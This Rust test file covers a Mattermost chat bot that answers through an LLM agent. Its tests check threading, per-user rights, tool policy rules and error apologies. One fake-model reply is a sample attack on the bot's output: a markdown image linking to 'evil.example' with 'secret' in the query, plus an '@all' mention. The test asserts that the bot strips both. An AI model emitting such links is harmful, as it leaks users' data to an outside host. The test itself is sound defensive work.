//! The bot answers questions by the agent.

use doorward_testkit::{FakeModel, FakeUpstream, ModelReply};
use serde_json::{Value, json};

use super::{FakeMattermost, Stage};
use crate::gateway::{agent, knowledge};

/// The texts of a request to the model, without its instructions.
fn said(request: &Value) -> Vec<String> {
    let messages = request["messages"].as_array().unwrap();
    let text = |message: &Value| message["content"].as_str().unwrap_or_default().to_owned();
    messages[1..].iter().map(text).collect()
}

/// Links an account of this name with a user of these roles.
async fn linked(stage: &Stage, name: &str, roles: &[&str]) -> String {
    let account = stage.chat.account(name);
    stage.server.user_with(name, roles).await;
    let browser = stage.server.signed_in(name).await;
    stage.link(&account, &browser).await.expect(200);
    account
}

/// The answer in the thread of a post.
async fn answer(chat: &FakeMattermost, channel: &str, root: &str, count: usize) -> String {
    let found = chat.answered(channel, count).await;
    let last = found.last().unwrap();
    assert_eq!(last.root, root, "it is in the thread");
    last.text.clone()
}

#[tokio::test]
async fn ca48_ca49_a_question_is_answered_in_its_thread_with_the_rights_and_the_history_of_its_author()
 {
    let model = agent::librarian().await;
    let mut folder = None;
    let stage = Stage::with(|config| {
        agent::use_model(config, &model);
        folder = Some(agent::documents(config));
    })
    .await;
    knowledge::indexed(&stage.server, 2).await;
    stage.server.keep_house();
    let chat = &stage.chat;
    let (hera, bob) = (linked(&stage, "hera", &["hr"]).await, linked(&stage, "bob", &[]).await);
    let channel = chat.channel();
    let first = chat.write(&channel, &hera, "@doorward server");
    let told = answer(chat, &channel, &first, 1).await;
    assert!(told.starts_with("I found Guide and Salaries [1].\n\n[1] `"), "{told}");
    chat.marked(&first, "white_check_mark").await;
    assert_eq!(chat.reacted(&first), ["eyes", "white_check_mark"]);
    assert!(chat.typed() > 0);
    // Another user in the same thread has other rights, and does not share the history.
    let other = chat.write_below((&channel, &first), &bob, "@doorward server");
    let told = answer(chat, &channel, &first, 2).await;
    assert!(told.starts_with("I found Guide [1]."), "{told}");
    chat.marked(&other, "white_check_mark").await;
    assert_eq!(said(&model.requests()[2]), ["server"]);
    // The first one goes on.
    let next = chat.write_below((&channel, &first), &hera, "@doorward server again");
    chat.marked(&next, "white_check_mark").await;
    let asked = said(&model.requests()[4]);
    assert_eq!(asked, ["server", "I found Guide and Salaries [1].", "server again"]);
    // A thread of its own begins without history.
    let alone = chat.write(&channel, &hera, "@doorward server");
    chat.marked(&alone, "white_check_mark").await;
    assert_eq!(said(&model.requests()[6]), ["server"]);
    assert_eq!(chat.answers(&channel).len(), 4, "each post is answered once");
}

#[tokio::test]
async fn ca47_ca51_the_agent_in_a_chat_may_do_no_more_than_the_connector_and_fails_with_one_apology()
 {
    let model = FakeModel::start(|request| {
        let messages = request["messages"].as_array().unwrap();
        let last = messages.last().unwrap();
        let text = last["content"].as_str().unwrap();
        match (last["role"].as_str().unwrap(), text) {
            ("tool", _) => ModelReply::text("Look: ![x](https://evil.example/?q=secret) @all"),
            (_, "break") => ModelReply::Status(500, None),
            (_, _) => ModelReply::call("whoami", &json!({})),
        }
    })
    .await;
    let wiki = FakeUpstream::start().await;
    let stage = Stage::with(|config| {
        agent::use_model(config, &model);
        config.agent.scopes = "mcp:destructive".into();
        config.upstreams.insert("wiki".to_owned(), wiki.config("oauth"));
        config.policy.rules = vec![
            "deny tool=server_info client=mattermost".to_owned(),
            "deny tool=wait client=agent".to_owned(),
            "confirm tool=whoami client=mattermost".to_owned(),
        ];
    })
    .await;
    stage.server.keep_house();
    let (chat, account) = (&stage.chat, stage.linked().await);
    let direct = chat.direct(&account);
    let question = chat.write(&direct, &account, "call me by my name");
    let told = answer(chat, &direct, &question, 1).await;
    let offered: Vec<String> = model.requests()[0]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|tool| tool["function"]["name"].as_str().unwrap().to_owned())
        .filter(|name| !name.starts_with("wiki"))
        .collect();
    // Rules for the connector hold for its agent, and so do those for the agent.
    let expected = ["connections", "list_connected_apps", "revoke_connected_app", "whoami"];
    assert_eq!(offered, expected);
    let confirm = stage.server.at("/confirm/");
    assert!(told.contains(&confirm), "{told}");
    // The answer has no link of its own, and names what is not connected in one line.
    for gone in ["https://evil", "![", "@all"] {
        assert!(!told.contains(gone), "{told}");
    }
    let missing: Vec<&str> =
        told.lines().filter(|line| line.starts_with("Not connected yet: ")).collect();
    assert_eq!(missing.len(), 1, "{told}");
    assert!(missing[0].contains(&stage.server.at("/connect/wiki")), "{told}");
    let broken = chat.write(&direct, &account, "break");
    chat.marked(&broken, "x").await;
    let answers = chat.answers(&direct);
    assert_eq!(answers.len(), 2);
    assert!(answers[1].text.starts_with("Sorry, the model’s endpoint cannot be used"));
    assert_eq!(chat.reacted(&broken), ["eyes", "x"]);
    // Commands remain commands.
    assert!(stage.say(&account, "tools").await.contains("`whoami`"));
}
